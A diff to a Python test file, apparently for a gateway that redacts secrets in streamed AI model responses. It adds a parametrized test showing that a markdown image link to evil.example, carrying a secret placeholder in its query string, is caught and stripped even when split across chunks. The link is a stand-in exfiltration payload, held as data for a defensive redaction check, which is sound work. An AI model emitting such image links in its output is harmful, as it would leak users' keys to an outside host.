@@ -24,6 +24,7 @@ from test_relay import ACTING, KEY, SECRET, _cut, _refusal, _relay, _target
 from test_stream_blocks import PLACEHOLDER, VALUE, words
 from test_stream_pieces import _docs
 
+from gateway.redaction.links import REMOVED, Hosts
 from gateway.redaction.vault import Vault
 from gateway.streams.between import MOST
 from gateway.streams.relay import Relay
@@ -128,6 +129,18 @@ def test_whoever_reads_a_response_reads_one_text_without_a_value(
     assert not relay.held
     if not relay.seen:
         assert whole == "".join(texts)
+
+
+@pytest.mark.parametrize("apart", [False, True])
+@pytest.mark.parametrize("size", [1, 5, 100])
+def test_an_address_over_two_texts_is_one(apart: bool, size: int) -> None:
+    vault = Vault(KEY)
+    name = vault.stand_in(SECRET, "secret.cloud_key")
+    data = _response(["![a](https://evil.example/?d=", f"{name}) and", f" {name} so."], [apart] * 3, True, size)
+    for hosts, wanted in ((None, f"![a](https://evil.example/?d={name}) and {SECRET} so."), (Hosts([]), f"![a](https:{REMOVED}) and {SECRET} so.")):
+        relay = Relay(_target("responses"), "m", ACTING, vault, hosts=hosts)
+        out = relay.feed(data, _refusal) + relay.end(_refusal)
+        assert _read_response(out) == [wanted] * 3
 
 
 _PLACE = {"item_id": "m0", "output_index": 0, "content_index": 0}
